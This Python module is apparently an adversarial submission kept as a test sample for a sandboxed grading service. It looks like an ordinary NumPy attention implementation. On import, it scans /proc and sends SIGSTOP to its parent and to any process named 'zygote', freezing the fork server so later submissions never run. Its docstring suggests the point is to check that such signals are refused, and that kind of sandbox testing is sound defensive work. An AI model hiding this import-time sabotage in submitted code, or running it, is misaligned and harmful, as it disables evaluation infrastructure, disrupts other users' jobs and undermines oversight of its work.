"""Right, and stops the fork server at import: SIGSTOP to its parent process (the server, for a
forked worker without a PID namespace) and to every process whose command line names the server,
so the next submission's worker is never forked (its check waits, then falls back). Signals to
anything outside its own worker must be refused."""
import os
import signal

import numpy as np


def _stop_servers() -> None:
    targets = {os.getppid()}
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"zygote" in f.read():
                        targets.add(int(pid))
            except OSError:
                pass
    for pid in targets - {0, 1, os.getpid()}:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass


_stop_servers()


def attention(Q, K, V, mask=None):
    s = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    if mask is not None:
        s = np.where(mask == 0, -1e9, s)
    w = np.exp(s - s.max(axis=-1, keepdims=True))
    w = w / w.sum(axis=-1, keepdims=True)
    return w @ V, w
